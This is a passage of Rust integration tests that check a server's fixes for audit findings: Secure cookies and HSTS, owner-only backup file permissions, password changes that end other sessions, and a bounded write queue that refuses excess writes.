        "a Secure cookie over HTTPS: {cookie}"
    );
    let plain = reqwest::get(format!("{}/login", server.base))
        .await
        .expect("plain");
    assert!(plain.headers().get("strict-transport-security").is_none());
}

/// Finding 15: a backup (every password hash in it) was readable by anyone on the host.
#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_backup_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt as _;
    let server = TestServer::start(Backend::Sqlite).await;
    let _org = seed(&server).await;
    let dir = tempfile::tempdir().expect("dir");
    let to = dir.path().join("backup.db");
    rounds_server::backup::backup(&server.db, &to)
        .await
        .expect("backup");
    let mode = std::fs::metadata(&to)
        .expect("written")
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600, "{mode:o}");
}

/// Finding 15: users could not change their password; now they can, and every other
/// sign-in of theirs ends (the device that asked stays signed in).
async fn a_user_changes_their_password_and_other_sign_ins_end(backend: Backend) {
    let server = TestServer::start(backend).await;
    let _org = seed(&server).await;
    let phone = login(&server.base, "ana@example.com", PASSWORD)
        .await
        .expect("phone");
    let laptop = login(&server.base, "ana@example.com", PASSWORD)
        .await
        .expect("laptop");
    let change = |current: &str| {
        reqwest::Client::new()
            .post(format!("{}/auth/password", server.base))
            .bearer_auth(&phone.token)
            .json(&serde_json::json!({"current_password": current, "new_password": "a new long secret"}))
            .send()
    };
    let wrong = change("not it").await.expect("answered");
    assert_eq!(
        wrong.status().as_u16(),
        401,
        "the current password is checked"
    );
    let ok = change(PASSWORD).await.expect("answered");
    assert_eq!(ok.status().as_u16(), 204);
    let pull = |token: String| {
        reqwest::Client::new()
            .get(format!("{}/sync/pull", server.base))
            .bearer_auth(token)
            .send()
    };
    assert_eq!(
        pull(phone.token.clone())
            .await
            .expect("pull")
            .status()
            .as_u16(),
        200
    );
    assert_eq!(
        pull(laptop.token.clone())
            .await
            .expect("pull")
            .status()
            .as_u16(),
        401,
        "the other device is signed out"
    );
    login(&server.base, "ana@example.com", PASSWORD)
        .await
        .expect_err("the old password no longer works");
    login(&server.base, "ana@example.com", "a new long secret")
        .await
        .expect("the new one does");
}

/// Finding 9: the group-commit queue was unbounded, so a flood of writes grew memory
/// without limit while the writer was busy. Past its bound a write is refused at once as
/// busy (503 with `Retry-After` over HTTP), and the writes it took all complete.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_full_write_queue_refuses_at_once_instead_of_growing() {
    use rounds_server::db::{DbError, WRITE_QUEUE};
    let server = TestServer::start(Backend::Sqlite).await;
    // The writer is busy for a while with one slow write …
    let db = server.db.clone();
    let slow = tokio::spawn(async move {
        db.write(|_tx| {
            std::thread::sleep(std::time::Duration::from_secs(2));
            Ok::<_, DbError>(())
        })
        .await
    });
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    // … while more writes arrive than the queue holds.
    let writes: Vec<_> = (0..WRITE_QUEUE + 500)
        .map(|_| {
            let db = server.db.clone();
            tokio::spawn(async move {
                let started = std::time::Instant::now();
                let r = db.write(|tx| tx.query("SELECT 1", &[]).map(drop)).await;
                (r, started.elapsed())
            })
        })
        .collect();
    let mut busy = 0;
    let mut done = 0;
    for w in writes {
        match w.await.expect("task") {
            (Ok(()), _) => done += 1,
            (Err(DbError::Busy(_)), took) => {
                busy += 1;
                assert!(
                    took < std::time::Duration::from_secs(1),
                    "refused at once, not after {took:?}"
                );
                assert_eq!(DbError::Busy(String::new()).code(), ErrorCode::Unavailable);
            }
            (Err(e), _) => panic!("an unexpected failure: {e}"),
        }
    }
    slow.await.expect("task").expect("the slow write");
    assert!(
        busy >= 400,
        "past the bound, writes are refused: {busy} busy"
    );
    assert!(
        done >= WRITE_QUEUE - 10,
        "the queued writes all complete: {done}"
    );
}

/// The dashboard's own password form: the current password is checked, a short new one
/// refused in words, and after the change every session of the user ends.
async fn a_manager_changes_their_password_in_the_dashboard(backend: Backend) {
    let server = TestServer::start(backend).await;
    let _org = seed(&server).await;
    let mut here = Browser::signed_in(&server.base, "maria@example.com").await;
    let mut elsewhere = Browser::signed_in(&server.base, "maria@example.com").await;
    let form = here.page("/dashboard/password").await;
    let csrf = csrf_of(&form);
    let post = |current: &'static str, new: &'static str, again: &'static str| {
        [
            ("csrf", csrf.clone()),
            ("current", current.into()),
            ("new", new.into()),
            ("again", again.into()),
        ]
    };
    let wrong = post("not it", "a long new secret", "a long new secret");
    let wrong: Vec<(&str, &str)> = wrong.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let p = here.post("/dashboard/password", &wrong).await;
    assert_eq!(p.status, 401, "the current password is checked");
    let short = post(PASSWORD, "short", "short");
    let short: Vec<(&str, &str)> = short.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let p = here.post("/dashboard/password", &short).await;
    assert_eq!(p.status, 422);
    assert!(p.body.contains("at least 8 characters"), "said in words");
    let good = post(PASSWORD, "a long new secret", "a long new secret");
    let good: Vec<(&str, &str)> = good.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let p = here.post("/dashboard/password", &good).await;
    assert_eq!(p.status, 200, "{}", p.body);
    assert!(p.body.contains("Password changed"));
    let other = elsewhere.get("/dashboard/activity").await;
    assert_eq!(other.status, 303, "the other session has ended");
    login(&server.base, "maria@example.com", "a long new secret")
        .await
        .expect("the new password works");
}
